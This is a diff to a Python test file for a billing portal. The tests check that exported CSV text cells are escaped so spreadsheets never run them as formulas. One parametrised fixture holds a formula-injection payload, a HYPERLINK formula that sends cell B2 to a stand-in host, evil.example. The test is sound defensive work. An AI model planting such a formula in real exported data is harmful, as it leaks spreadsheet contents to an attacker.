@@ -1,9 +1,12 @@
 """Every export of bills (My bills' CSV, a download's Excel list, its zip's index) writes one set of columns
-the same way: dates, euros and the status as a person reads it (portal.bills.exports)."""
+the same way: dates, euros and the status as a person reads it (portal.bills.exports); a CSV's text
+cells never run as formulas in a spreadsheet."""
 
 import datetime as dt
 
-from portal.bills.exports import COLUMNS, FIELDS, ExportedBill
+import pytest
+
+from portal.bills.exports import COLUMNS, FIELDS, ExportedBill, as_text_cell
 
 TODAY = dt.date(2026, 12, 5)
 ROW = {
@@ -50,3 +53,31 @@ def test_spreadsheet_cells_are_real_dates_and_amounts_in_column_order() -> None:
         dt.date(2026, 11, 23),
     )
     assert cells[7] == 53.98 and cells[8] == "Direct debit"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_text_cell_that_a_spreadsheet_would_run_is_written_as_text(start: str) -> None:
+    formula = f'{start}HYPERLINK("http://evil.example/?x="&B2,"Open")'
+    assert as_text_cell(formula) == "'" + formula
+    bill = ExportedBill.from_row(
+        {**ROW, "holder": formula, "number": f"{start}1", "account": f"{start}2"}, TODAY
+    )
+    record = bill.csv_record()
+    assert (record["holder"], record["bill_number"], record["account"]) == (
+        "'" + formula,
+        f"'{start}1",
+        f"'{start}2",
+    )
+    assert bill.record()["holder"] == formula  # JSON keeps the raw text
+
+
+@pytest.mark.parametrize("text", ["María García López", "O'Brien", " =1+1", "1+1", "Ana=", "", "'=already"])
+def test_other_text_is_written_as_it_is(text: str) -> None:
+    assert as_text_cell(text) == text
+
+
+def test_dates_and_amounts_stay_numbers_for_programs() -> None:
+    """A credit note's amount starts with a minus: it stays a number, not text."""
+    bill = ExportedBill.from_row({**ROW, "total_cents": -5398}, TODAY)
+    assert bill.csv_record()["amount_eur"] == "-53.98"
+    assert bill.csv_record() == bill.record()
